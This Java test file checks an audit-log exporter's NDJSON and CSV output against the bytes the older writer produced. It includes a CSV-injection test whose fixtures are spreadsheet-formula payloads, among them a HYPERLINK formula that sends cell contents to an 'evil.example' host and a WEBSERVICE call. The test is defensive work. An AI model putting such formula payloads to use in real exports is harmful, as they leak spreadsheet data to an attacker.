package com.agentwallex.audit.export;

import static org.assertj.core.api.Assertions.assertThat;

import com.agentwallex.audit.query.AuditFilter;
import com.agentwallex.audit.support.TestEvents;
import com.agentwallex.audit.verifier.EventChain;
import com.fasterxml.jackson.core.JsonFactory;
import com.fasterxml.jackson.core.JsonGenerator;
import io.quarkus.test.junit.QuarkusTest;
import io.vertx.mutiny.sqlclient.Pool;
import io.vertx.mutiny.sqlclient.Row;
import io.vertx.mutiny.sqlclient.RowSet;
import io.vertx.mutiny.sqlclient.Tuple;
import jakarta.inject.Inject;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/**
 * ExportWriter writes bytes itself; the verifier and the SDK read what Jackson's generator wrote before.
 * Rows with every character class JSON escapes, non-ASCII text, absent optionals and a block boundary
 * inside a row come out as the same bytes as that generator (and the old CSV cells) produce.
 */
@QuarkusTest
class ExportWriterTest {

    private static final String AWKWARD = "Mozilla \"quoted\", back\\slash tab\t nl\n cr\r bell\u0007 del\u007f"
            + " é ü 日本 😀 \u2028 / </script> end";

    @Inject
    Pool pool;

    @Test
    void ndjsonAndCsvAreTheBytesJacksonsGeneratorAndTheOldCellsWrote() throws IOException {
        String org = TestEvents.newOrg();
        insert(org, 1, AWKWARD, "{\"note\": \"é \\\"q\\\" 😀 \\u0001\", \"n\": 1.50, \"big\": 12345678901234567890}", true);
        insert(org, 2, "curl/8.5", "{}", false);
        // A user agent longer than ExportWriter's block: the row spans block boundaries.
        insert(org, 3, "x".repeat(ExportWriter.BLOCK + 17) + AWKWARD, "{\"a\": [1, 2, {\"b\": null}]}", true);
        RowSet<Row> rows = new AuditExportRepository(pool)
                .page(AuditFilter.parse(org, Map.of(), Set.of()).withAfterSeq(0), 10).await().atMost(Duration.ofSeconds(30));
        assertThat(rows.size()).isEqualTo(3);
        StringBuilder ndjson = new StringBuilder();
        StringBuilder csv = new StringBuilder(String.join(",", ExportWriter.CSV_COLUMNS) + "\r\n");
        for (Row row : rows) {
            jacksonLine(row, ndjson);
            oldCsvRow(row, csv);
        }
        assertThat(written(ExportFormat.NDJSON, rows)).isEqualTo(ndjson.toString().getBytes(StandardCharsets.UTF_8));
        assertThat(written(ExportFormat.CSV, rows)).isEqualTo(csv.toString().getBytes(StandardCharsets.UTF_8));
    }

    /** A caller's user agent must not become a formula in the admin's spreadsheet (CSV injection). */
    @Test
    void aCsvCellASpreadsheetWouldRunAsAFormulaAtItsStartOrAfterASemicolonGetsAQuoteInFrontAndTheNdjsonIsUnchanged() throws IOException {
        String org = TestEvents.newOrg();
        List<String> payloads = List.of("=HYPERLINK(\"https://evil.example/?\"&B2,\"details\")", "+1", "-2+3", "@SUM(A1)",
                "\tcmd", "x;=WEBSERVICE(A2);@SUM(A1)");
        for (int i = 0; i < payloads.size(); i++) {
            insert(org, i + 1, payloads.get(i), "{}", false);
        }
        RowSet<Row> rows = new AuditExportRepository(pool)
                .page(AuditFilter.parse(org, Map.of(), Set.of()).withAfterSeq(0), 10).await().atMost(Duration.ofSeconds(30));

        String csv = new String(written(ExportFormat.CSV, rows), StandardCharsets.UTF_8);
        String ndjson = new String(written(ExportFormat.NDJSON, rows), StandardCharsets.UTF_8);

        assertThat(csv).contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"details\"\")\",", ",\"'+1\",",
                ",\"'-2+3\",", ",\"'@SUM(A1)\",", ",\"'\tcmd\",", ",x;'=WEBSERVICE(A2);'@SUM(A1),");
        assertThat(ndjson).contains("\"user_agent\":\"+1\"", "\"user_agent\":\"@SUM(A1)\"",
                "\"user_agent\":\"x;=WEBSERVICE(A2);@SUM(A1)\"");
    }

    private static byte[] written(ExportFormat format, RowSet<Row> rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ExportWriter writer = new ExportWriter(format, out);
        writer.start();
        for (Row row : rows) {
            writer.write(row);
        }
        writer.flush();
        return out.toByteArray();
    }

    private void insert(String org, long seq, String userAgent, String details, boolean optionals) {
        byte[] prev = new byte[32];
        byte[] hash = new byte[32];
        Arrays.fill(prev, (byte) (seq * 37));
        Arrays.fill(hash, (byte) (0xF0 + seq));
        OffsetDateTime time = OffsetDateTime.of(2026, 12, 6, 1, 2, 3, 4_000 * (int) seq, ZoneOffset.UTC);
        pool.preparedQuery("""
                INSERT INTO audit_event (event_id, occurred_at, org_id, type, source, subject, actor_type, actor_id,
                    outcome, reason, client_ip, user_agent, request_id, resource_type, resource_id, details,
                    traceparent, seq, prev_hash, hash, retention_class, retained_at)
                VALUES ($1, $2, $3, 'auth.login.failed', 'auth-service', $4, 'user', 'usr_"1"', 'failure', $5, $6, $7,
                    $8, $9, $10, $11::jsonb, $12, $13, $14, $15, 'growth', $2)""")
                .execute(Tuple.from(Arrays.asList(UUID.randomUUID(), time, org, optionals ? "usr_é" : null,
                        optionals ? "bad, \"state\"" : null, optionals ? "2001:db8::1" : null, userAgent,
                        optionals ? "req\u0001" : null, optionals ? "api_key" : null, optionals ? "key,1" : null, details,
                        optionals ? "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01" : null, seq,
                        io.vertx.core.buffer.Buffer.buffer(prev), io.vertx.core.buffer.Buffer.buffer(hash))))
                .await().atMost(Duration.ofSeconds(10));
    }

    /** The NDJSON line as ExportWriter wrote it through Jackson's generator before it wrote bytes itself. */
    private static void jacksonLine(Row row, StringBuilder out) throws IOException {
        StringWriter line = new StringWriter(512);
        try (JsonGenerator json = new JsonFactory().createGenerator(line)) {
            json.writeStartObject();
            json.writeStringField("id", row.getUUID("event_id").toString());
            json.writeStringField("type", row.getString("type"));
            json.writeStringField("time", EventChain.time(row.getOffsetDateTime("occurred_at").toInstant()));
            json.writeStringField("source", row.getString("source"));
            optional(json, "subject", row.getString("subject"));
            json.writeStringField("org_id", row.getString("org_id"));
            json.writeObjectFieldStart("actor");
            json.writeStringField("type", row.getString("actor_type"));
            json.writeStringField("id", row.getString("actor_id"));
            json.writeEndObject();
            json.writeStringField("outcome", row.getString("outcome"));
            optional(json, "reason", row.getString("reason"));
            optional(json, "client_ip", row.getString("client_ip"));
            optional(json, "user_agent", row.getString("user_agent"));
            optional(json, "request_id", row.getString("request_id"));
            if (row.getString("resource_type") != null) {
                json.writeObjectFieldStart("resource");
                json.writeStringField("type", row.getString("resource_type"));
                optional(json, "id", row.getString("resource_id"));
                json.writeEndObject();
            }
            json.writeFieldName("details");
            json.writeRawValue(row.getString("details"));
            optional(json, "traceparent", row.getString("traceparent"));
            json.writeNumberField("seq", row.getLong("seq"));
            json.writeStringField("prev_hash", EventChain.hex(row.getBuffer("prev_hash").getBytes()));
            json.writeStringField("hash", EventChain.hex(row.getBuffer("hash").getBytes()));
            json.writeEndObject();
        }
        out.append(line).append('\n');
    }

    private static void optional(JsonGenerator json, String name, String value) throws IOException {
        if (value != null) {
            json.writeStringField(name, value);
        }
    }

    /** The CSV row as ExportWriter built it before. */
    private static void oldCsvRow(Row row, StringBuilder out) {
        cell(out, Long.toString(row.getLong("seq")));
        cell(out, EventChain.hex(row.getBuffer("prev_hash").getBytes()));
        cell(out, EventChain.hex(row.getBuffer("hash").getBytes()));
        cell(out, row.getUUID("event_id").toString());
        cell(out, EventChain.time(row.getOffsetDateTime("occurred_at").toInstant()));
        for (String column : ExportWriter.CSV_COLUMNS.subList(5, ExportWriter.CSV_COLUMNS.size())) {
            cell(out, row.getString(column));
        }
        out.setLength(out.length() - 1);
        out.append("\r\n");
    }

    private static void cell(StringBuilder out, String value) {
        if (value != null) {
            if (value.indexOf(',') >= 0 || value.indexOf('"') >= 0 || value.indexOf('\n') >= 0 || value.indexOf('\r') >= 0) {
                out.append('"').append(value.replace("\"", "\"\"")).append('"');
            } else {
                out.append(value);
            }
        }
        out.append(',');
    }
}
